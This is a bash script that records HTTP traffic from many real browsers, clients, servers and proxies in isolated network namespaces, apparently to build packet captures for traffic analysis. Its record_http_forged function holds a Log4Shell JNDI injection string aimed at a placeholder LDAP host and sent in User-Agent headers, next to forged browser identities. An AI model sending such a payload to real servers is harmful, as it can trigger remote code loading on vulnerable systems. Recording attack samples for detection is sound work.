#!/usr/bin/env bash
# Records HTTP over cleartext between real programs, each capture in its own network namespaces.
#
#   captures/tools/record-http.sh          record all captures again
#   captures/tools/record-http.sh NAME...  record only these
#   captures/tools/record-http.sh --list   list the names
#
# The requirements and addresses of record.sh apply. The script also needs Go, Maven, npm and pip, with which it downloads
# and builds programs in a temporary folder, outside the namespaces.
set -euo pipefail

readonly PACKAGES="apache2 apache2-utils aria2 axel busybox caddy chromium curl ethtool firefox-esr git h2o haproxy
    iproute2 jetty9 libwww-perl lighttpd links lynx maven nghttp2-client nginx nodejs npm openjdk-17-jdk-headless php-cli
    python3 python3-venv ruby siege tcpdump tomcat10 varnish w3m wget wget2"
readonly PROGRAMS="GET ab apache2 aria2c axel busybox caddy chromium curl ethtool firefox-esr git go h2load h2o haproxy
    ip java lighttpd links lynx mvn nghttp nginx node npm perl php python3 ruby siege ss tcpdump varnishd w3m wget wget2"
export PYTHONDONTWRITEBYTECODE=1

readonly NAMES="http-chromium http-firefox http-pages http-tools http-python http-go http-java http-node http-servers
    http-servers-python http-servers-others http-proxies http-keep-alive http-keep-alive-h2load http-pipelined
    http-bodies http-upgrades http-h2c http-h2c-h2load http-imitation http-forged"

here=$(cd "$(dirname "$0")" && pwd)
programs=$here/http-programs
. "$here/layout.sh"
. "$here/lab.sh"

readonly PAGE=http://www.example.test/

main() {
    if [ "${1:-}" = --list ]; then
        printf '%s\n' $NAMES
        return
    fi
    lab_start
    chmod 711 "$tmp" # for servers that drop root's privileges
    local name
    for name in ${*:-$NAMES}; do
        echo "== $name"
        lab_up_as_wired
        "record_${name//-/_}"
        lab_down
    done
}

# Runs a client that resolves www.example.test, in its own mount namespace, and discards its output.
named() { client sh -c 'mount --bind "$0" /etc/hosts && exec "$@"' "$tmp/hosts" "$@" >"$tmp/client.log" 2>&1; }

# serve PORT COMMAND...: starts a server, which runs until lab_down.
serve() {
    local port=$1
    shift
    server "$@" >"$tmp/server-$port.log" 2>&1 &
    until [ -n "$(server ss -Hlnt "sport = :$port")" ]; do
        kill -0 $! || { cat "$tmp/server-$port.log" && return 1; }
        sleep 0.05
    done
}

start() { record "$(capture "$1.pcap")" $CLIENT_NS hn-a tcp; }

# Writes a page that loads a style, a script and a picture, fetches data, and then opens the next page.
site_up() {
    nginx_up
    cp "$programs/index.html" "$programs/next.html" "$tmp/www"
    echo 'p { color: red }' >"$tmp/www/style.css"
    echo '{}' >"$tmp/www/data.json"
    printf 'GIF89a\1\0\1\0\0\0\0;' >"$tmp/www/picture.gif"
    echo 'document.title = "script"' >"$tmp/www/script.js"
}

record_http_chromium() {
    site_up
    start http-chromium
    chromium_page
    chromium_page --accept-lang=de-DE,de
    stop_recording
}

record_http_firefox() {
    site_up
    start http-firefox
    firefox_page
    firefox_page intl.accept_languages '"fr, en"'
    stop_recording
}

# A page with bodies of typical sizes (http-programs/page.py). curl requests three of its files.
record_http_pages() {
    mkdir -p "$tmp/page"
    python3 "$programs/page.py" "$tmp/page"
    serve 80 nginx -c "$(page_conf)"
    start http-pages
    chromium_page
    firefox_page
    named curl -s --compressed -o /dev/null $PAGE -o /dev/null ${PAGE}script-0.js -o /dev/null ${PAGE}image-0.png
    stop_recording
}

# Writes the configuration of a typical web server (types, compression) and prints the file's path.
page_conf() {
    cat >"$tmp/page.conf" <<CONF
daemon off; pid $tmp/page.pid; error_log $tmp/page.err; user root; worker_processes 1;
events {}
http {
    include /etc/nginx/mime.types;
    access_log off; root $tmp/page; sendfile on; tcp_nopush on;
    gzip on; gzip_vary on; gzip_types text/css application/javascript application/json;
    server { listen 80; location = /seen { return 204; } }
}
CONF
    echo "$tmp/page.conf"
}

# Each browser has its own profile, and runs long enough for both pages.
chromium_page() {
    local profile
    profile=$(mktemp -d "$tmp/chromium-XXXX")
    named env HOME="$profile" timeout 12 chromium --headless --no-sandbox --disable-gpu --no-first-run \
        --disable-background-networking --disable-component-update --user-data-dir="$profile" \
        --disable-features=HttpsUpgrades,HttpsFirstBalancedModeAutoEnable --virtual-time-budget=4000 "$@" \
        --dump-dom $PAGE || true
}

firefox_page() {
    local profile
    profile=$(mktemp -d "$tmp/firefox-XXXX")
    {
        echo 'user_pref("network.captive-portal-service.enabled", false);'
        echo 'user_pref("dom.security.https_first", false);'
        [ $# = 0 ] || printf 'user_pref("%s", %s);\n' "$@"
    } >"$profile/user.js"
    named env HOME="$profile" timeout 8 firefox-esr --headless --profile "$profile" $PAGE || true
}

record_http_tools() {
    nginx_up
    start http-tools
    named curl -s $PAGE
    named curl -s --compressed -I $PAGE
    named wget -q -O /dev/null $PAGE
    named wget2 -q -O /dev/null $PAGE
    named aria2c -q -d "$tmp" -o aria2 $PAGE
    named axel -q -o "$tmp/axel" $PAGE
    named lynx -dump $PAGE
    named w3m -dump $PAGE
    named links -dump $PAGE
    named busybox wget -q -O /dev/null $PAGE
    named ab -n 1 $PAGE
    named siege -q -r 1 -c 1 $PAGE || true
    named git ls-remote $PAGE || true
    named GET $PAGE
    named php -r "readfile('$PAGE');"
    named ruby -rnet/http -e "Net::HTTP.get(URI('$PAGE'))"
    named ruby -ropen-uri -e "URI.open('$PAGE').read"
    named perl -MHTTP::Tiny -e "HTTP::Tiny->new->get('$PAGE')"
    stop_recording
}

record_http_python() {
    python_venv aiohttp httpx pycurl requests scrapy urllib3
    nginx_up
    start http-python
    named "$tmp/venv/bin/python" "$programs/fetch.py" $PAGE
    named "$tmp/venv/bin/scrapy" fetch --nolog -s ROBOTSTXT_OBEY=0 $PAGE
    stop_recording
}

# python_venv PACKAGE...
python_venv() {
    [ -e "$tmp/venv" ] || python3 -m venv "$tmp/venv"
    "$tmp/venv/bin/pip" install -q "$@"
}

record_http_go() {
    go build -o "$tmp/fetch-go" "$programs/fetch.go"
    nginx_up
    start http-go
    named "$tmp/fetch-go" $PAGE
    stop_recording
}

record_http_java() {
    mvn -q -f "$programs/pom.xml" dependency:copy-dependencies -DoutputDirectory="$tmp/java"
    nginx_up
    start http-java
    named java -cp "$tmp/java/*" "$programs/Fetch.java" $PAGE
    stop_recording
}

record_http_node() {
    (cd "$tmp" && npm install --silent --no-fund axios got node-fetch superagent undici)
    cp "$programs/fetch.mjs" "$tmp"
    nginx_up
    start http-node
    named node --no-warnings "$tmp/fetch.mjs" $PAGE
    stop_recording
}

record_http_servers() {
    site_up
    serve 8081 apache2 -X -f "$(apache_conf 8081 http/1.1)"
    serve 8082 lighttpd -D -f "$(lighttpd_conf 8082)"
    serve 8083 env HOME="$tmp" caddy file-server --root "$tmp/www" --listen :8083
    serve 8084 h2o -c "$(h2o_conf 8084)"
    serve 8085 busybox httpd -f -p 8085 -h "$tmp/www"
    serve 8086 php -S 0.0.0.0:8086 -t "$tmp/www"
    start http-servers
    request 80 $(seq 8081 8086)
    stop_recording
}

record_http_servers_python() {
    site_up
    python_venv aiohttp gunicorn hypercorn tornado uvicorn waitress
    cp "$programs/app.py" "$tmp"
    serve 8081 python3 -m http.server -d "$tmp/www" 8081
    serve 8082 "$tmp/venv/bin/gunicorn" -b 0.0.0.0:8082 --chdir "$tmp" app:wsgi
    serve 8083 "$tmp/venv/bin/uvicorn" --host 0.0.0.0 --port 8083 --app-dir "$tmp" app:asgi
    serve 8084 env PYTHONPATH="$tmp" "$tmp/venv/bin/waitress-serve" --listen=0.0.0.0:8084 app:wsgi
    serve 8085 "$tmp/venv/bin/python" "$tmp/app.py" tornado 8085
    serve 8086 "$tmp/venv/bin/python" "$tmp/app.py" aiohttp 8086
    serve 8087 python3 "$tmp/app.py" wsgiref 8087
    serve 8088 env PYTHONPATH="$tmp" "$tmp/venv/bin/hypercorn" -b 0.0.0.0:8088 app:asgi
    start http-servers-python
    request $(seq 8081 8088)
    stop_recording
}

record_http_servers_others() {
    site_up
    go build -o "$tmp/serve-go" "$programs/serve.go"
    serve 8081 "$tmp/serve-go" :8081 "$tmp/www"
    serve 8082 node "$programs/serve.js" 8082
    serve 8083 java "$programs/Serve.java" 8083
    tomcat 8084
    jetty 8085
    start http-servers-others
    request $(seq 8081 8085)
    stop_recording
}

# request PORT...: requests a page, the page if modified, and a missing page, each on its own connection.
request() {
    local port now
    now=$(date -u '+%a, %d %b %Y %H:%M:%S GMT')
    for port in "$@"; do
        named curl -s "http://www.example.test:$port/index.html"
        named curl -s -H "If-Modified-Since: $now" "http://www.example.test:$port/index.html"
        named curl -s "http://www.example.test:$port/missing"
    done
}

# Each writes a configuration for a port and prints the file's path; apache_conf PORT PROTOCOLS.
apache_conf() {
    cat >"$tmp/apache.conf" <<CONF
ServerRoot /usr/lib/apache2
ServerName www.example.test
PidFile $tmp/apache.pid
ErrorLog $tmp/apache.err
Listen $1
LoadModule mpm_event_module modules/mod_mpm_event.so
LoadModule authz_core_module modules/mod_authz_core.so
LoadModule mime_module modules/mod_mime.so
LoadModule http2_module modules/mod_http2.so
TypesConfig /etc/mime.types
User nobody
Group nogroup
Protocols $2
DocumentRoot $tmp/www
CONF
    echo "$tmp/apache.conf"
}

lighttpd_conf() {
    cat >"$tmp/lighttpd.conf" <<CONF
server.port = $1
server.document-root = "$tmp/www"
mimetype.assign = ( ".html" => "text/html" )
CONF
    echo "$tmp/lighttpd.conf"
}

h2o_conf() {
    cat >"$tmp/h2o.conf" <<CONF
listen: $1
user: root
hosts:
  default:
    paths:
      "/":
        file.dir: $tmp/www
CONF
    echo "$tmp/h2o.conf"
}

tomcat() {
    mkdir -p "$tmp/tomcat/conf" "$tmp/tomcat/webapps/ROOT" "$tmp/tomcat/logs" "$tmp/tomcat/work" "$tmp/tomcat/temp"
    cp "$tmp/www/index.html" "$tmp/tomcat/webapps/ROOT"
    cp /usr/share/tomcat10/etc/web.xml "$tmp/tomcat/conf"
    cat >"$tmp/tomcat/conf/server.xml" <<CONF
<Server port="-1"><Service name="Catalina">
  <Connector port="$1" protocol="HTTP/1.1"/>
  <Engine name="Catalina" defaultHost="localhost"><Host name="localhost" appBase="webapps"/></Engine>
</Service></Server>
CONF
    serve "$1" env CATALINA_HOME=/usr/share/tomcat10 CATALINA_BASE="$tmp/tomcat" \
        /usr/share/tomcat10/bin/catalina.sh run
}

jetty() {
    mkdir -p "$tmp/jetty/webapps/root"
    cp "$tmp/www/index.html" "$tmp/jetty/webapps/root"
    serve "$1" java -jar /usr/share/jetty9/start.jar jetty.home=/usr/share/jetty9 jetty.base="$tmp/jetty" \
        --module=http,deploy jetty.http.port="$1"
}

# Proxies in front of nginx forward responses, and send their own.
record_http_proxies() {
    nginx_up
    cat >"$tmp/haproxy.conf" <<CONF
defaults
    mode http
    timeout connect 5s
    timeout client 5s
    timeout server 5s
frontend f
    bind :8081
    http-request redirect location /index.html if { path /moved }
    http-request deny if { path /denied }
    use_backend none if { path /missing }
    default_backend nginx
backend nginx
    server a 127.0.0.1:80
backend none
    server a 127.0.0.1:9
CONF
    serve 8081 haproxy -f "$tmp/haproxy.conf"
    serve 8082 varnishd -F -n "$tmp/varnish" -a :8082 -b 127.0.0.1:80
    start http-proxies
    local path
    for path in index.html moved denied missing; do named curl -s "http://www.example.test:8081/$path"; done
    for path in index.html index.html missing; do named curl -s "http://www.example.test:8082/$path"; done
    stop_recording
}

# A hundred requests on one connection.
record_http_keep_alive() {
    nginx_up
    start http-keep-alive
    named curl -s "$PAGE?[1-100]"
    stop_recording
}

record_http_keep_alive_h2load() {
    nginx_up
    start http-keep-alive-h2load
    named h2load --h1 -n 100 -c 1 -m 1 $PAGE
    stop_recording
}

record_http_pipelined() {
    nginx_up
    start http-pipelined
    named python3 "$programs/exchanges.py" pipelined www.example.test 80
    named h2load --h1 -n 40 -c 1 -m 8 $PAGE
    stop_recording
}

# Bodies with every kind of framing, and responses without a body.
record_http_bodies() {
    serve 8080 python3 "$programs/exchanges.py" serve 8080
    start http-bodies
    named python3 "$programs/exchanges.py" bodies www.example.test 8080
    named curl -s -T "$programs/app.py" -H 'Transfer-Encoding: chunked' http://www.example.test:8080/length
    named curl -s -T "$programs/app.py" -H 'Expect: 100-continue' http://www.example.test:8080/length
    stop_recording
}

# Upgrades from HTTP/1.1 to HTTP/2 and to another protocol.
record_http_upgrades() {
    site_up
    serve 8081 apache2 -X -f "$(apache_conf 8081 "h2c http/1.1")"
    serve 8082 python3 "$programs/exchanges.py" serve 8082
    start http-upgrades
    named curl -s --http2 http://www.example.test:8081/index.html
    named nghttp -u http://www.example.test:8081/index.html
    named curl -s --http2 $PAGE
    named python3 "$programs/exchanges.py" upgrades www.example.test 8082
    stop_recording
}

# HTTP/2 with prior knowledge: a request, a page with its resources, padding.
record_http_h2c() {
    site_up
    start http-h2c
    named curl -s --http2-prior-knowledge http://www.example.test:8080/missing
    named nghttp -n -a http://www.example.test:8080/index.html
    named nghttp -n -b 32 -H 'Accept-Language: de' http://www.example.test:8080/index.html
    stop_recording
}

# A hundred requests on one connection, ten at a time.
record_http_h2c_h2load() {
    site_up
    start http-h2c-h2load
    named h2load -n 100 -c 1 -m 10 http://www.example.test:8080/style.css
    stop_recording
}

# Programs that claim to be a browser, on another system or with other HTTP/2 settings, and browsers that claim another
# system or another browser.
record_http_imitation() {
    local chrome='AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'
    local windows="Mozilla/5.0 (Windows NT 10.0; Win64; x64) $chrome" linux="Mozilla/5.0 (X11; Linux x86_64) $chrome"
    local firefox='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0'
    site_up
    start http-imitation
    named python3 -c 'import sys, urllib.request as u; u.urlopen(u.Request(sys.argv[1], headers={"User-Agent": sys.argv[2]}))' \
        $PAGE "$windows"
    named curl -s -A "$windows" $PAGE
    named curl -s -A "$linux" $PAGE
    named wget -q -O /dev/null -U "$firefox" $PAGE
    named curl -s --http2-prior-knowledge -A "$linux" http://www.example.test:8080/index.html
    named nghttp -n -H "User-Agent: $firefox" http://www.example.test:8080/index.html
    chromium_page "--user-agent=$windows"
    firefox_page general.useragent.override "\"$windows\""
    stop_recording
}

# curl that claims to be Chrome on its own system: with its own headers, with one more, behind a proxy, and without Accept;
# and attacks in the User-Agent, instead of curl's and behind it.
record_http_forged() {
    local chrome='Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'
    local attack='${jndi:ldap://192.0.2.9:1389/a}'
    site_up
    start http-forged
    named curl -s -A "$chrome" $PAGE
    named curl -s -A "$chrome" -H 'Accept-Language: en' $PAGE
    named curl -s -A "$chrome" -H 'X-Forwarded-For: 198.51.100.7' $PAGE
    named curl -s -A "$chrome Edg/124.0.0.0" -H Accept: -d name=value $PAGE
    named curl -s -A "$attack" $PAGE
    named curl -s -A "curl/8.5.0 $attack" $PAGE
    stop_recording
}

main "$@"
